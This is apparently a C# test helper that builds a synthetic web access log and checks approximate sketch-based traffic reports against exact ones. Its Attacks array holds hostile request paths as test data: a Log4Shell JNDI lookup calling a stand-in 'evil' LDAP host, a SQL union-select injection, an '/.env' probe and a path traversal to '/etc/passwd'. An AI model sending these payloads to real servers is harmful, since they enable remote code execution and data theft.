using System.Globalization;
using System.Text;

namespace AccessLogs.Tests;

/// <summary>A log with more clients and paths than sketches keep, and its reports: exact, approximate, and by parts.</summary>
/// <param name="seed">The same makes the same log. Hashes have no seed either, so that five standard errors are no matter of luck.</param>
internal sealed class ManyKeys(int seed)
{
    private const int Lines = 60_000;
    private const int Clients = 60_000;
    private const int Pages = 100_000;
    private const double Errors = 5;

    private static readonly string[] Attacks = ["/.env", "/?x=${jndi:ldap://evil/a}", "/p?id=1+union+all+select+1", "/../../etc/passwd"];
    private static readonly string[] Agents = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0", "Mozilla/5.0 (Windows NT 10.0) Chrome/140.0", "curl/8.0"];
    private readonly Lazy<byte[]> _log = new(() => Make(new Random(seed)));

    public static AccessLogFormat Format { get; } = AccessLogFormat.Parse("%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\" %D");

    public ReadOnlyMemory<byte> Log => _log.Value;

    public AccessLogReport Report(AnalysisOptions options, int parts = 1)
    {
        using var all = Count(Log, options, parts);
        return all.ToReport([]);
    }

    /// <summary>Counts a log in parts, every other one of which comes over the wire.</summary>
    public static AccessLogAccumulator Count(ReadOnlyMemory<byte> log, AnalysisOptions options, int parts, AccessLogFormat? format = null)
    {
        var whole = new AccessLogAccumulator(options, format ?? Format);
        var (part, offset) = (0, 0L);
        for (var size = (log.Length / parts) + 1; !log.IsEmpty; part++)
        {
            var end = log.Length <= size ? log.Length : size + log.Span[size..].IndexOf((byte)'\n') + 1;
            using var one = new AccessLogAccumulator(options, format ?? Format);
            one.StartSplit(0, offset);
            one.Add(log[..end].Span);
            using var read = part % 2 == 1 ? AccessLogAccumulator.Read(Reports.Wire(one)) : null;
            whole.Merge(read ?? one);
            offset += end;
            log = log[end..];
        }

        return whole;
    }

    /// <summary>How far an estimate by so many registers may be off, as a share.</summary>
    public static double Within(int registers) => Errors * Sketches.HyperLogLog.StandardError(registers);

    /// <summary>Rows and their items lack no more than they say, and what is not there has no more than the panel says.</summary>
    public static void AssertBounds(ReportPanel exact, ReportPanel approximate)
    {
        AssertBounds(exact.Rows, approximate.Rows, approximate.Unseen);
        var rows = approximate.Rows.ToDictionary(row => row.Name, StringComparer.Ordinal);
        foreach (var row in exact.Rows.Where(row => row.Items.Count > 0))
        {
            AssertBounds(row.Items, rows.GetValueOrDefault(row.Name).Items, Math.Max(approximate.Unseen, approximate.UnseenItems));
        }
    }

    /// <summary>The same rows with the same hits and bytes, and about as many visitors. Of a few the error is a matter of single visitors.</summary>
    public static void AssertSame(ReportPanel exact, ReportPanel approximate)
    {
        Assert.Equal(exact.Rows.Select(row => (row.Name, row.Hits, row.Bytes)), approximate.Rows.Select(row => (row.Name, row.Hits, row.Bytes)));
        Assert.All(exact.Rows.Zip(approximate.Rows), pair => AssertVisitors(pair.First, pair.Second));
    }

    public static void AssertVisitors(in ReportRow exact, in ReportRow approximate)
    {
        var within = Within(Sketches.SketchTable.VisitorRegisters);
        Assert.InRange(approximate.Visitors, Math.Floor(exact.Visitors * (1 - within)), Math.Ceiling(exact.Visitors * (1 + within)));
    }

    private static void AssertBounds(IReadOnlyList<ReportRow> exact, IReadOnlyList<ReportRow> approximate, long unseen)
    {
        var rows = approximate.ToDictionary(row => row.Name, StringComparer.Ordinal);
        foreach (var row in exact)
        {
            if (rows.TryGetValue(row.Name, out var about))
            {
                Assert.InRange(row.Hits, about.Hits, about.Hits + about.Missing);
                Assert.True(about.Bytes <= row.Bytes);
            }
            else
            {
                Assert.InRange(row.Hits, 1, unseen);
            }
        }
    }

    private static byte[] Make(Random random)
    {
        var log = new StringBuilder();
        for (var i = 0; i < Lines; i++)
        {
            var isAttack = random.Next(2) == 0;
            // Some clients and pages have many requests, most have one.
            var client = isAttack ? random.Next(Clients) : Skewed(random, Clients);
            var path = isAttack ? Attacks[random.Next(Attacks.Length)] : $"/shop/item/{Skewed(random, Pages)}";
            var (time, status) = (DateTime.UnixEpoch.AddDays(20_000).AddSeconds(i * 2L), random.Next(10) == 0 ? 404 : 200);
            log.Append(CultureInfo.InvariantCulture, $"10.{client >> 12}.{(client >> 4) & 255}.{client & 15} - - [{time:dd/MMM/yyyy:HH:mm:ss} +0000] \"GET {path} HTTP/1.1\" {status} {random.Next(5_000)} ")
                .Append(CultureInfo.InvariantCulture, $"\"-\" \"{Agents[random.Next(Agents.Length)]}\" {random.Next(1_000_000)}\n");
        }

        return Encoding.ASCII.GetBytes(log.ToString());
    }

    private static int Skewed(Random random, int count) => (int)(Math.Pow(random.NextDouble(), 2) * count);
}
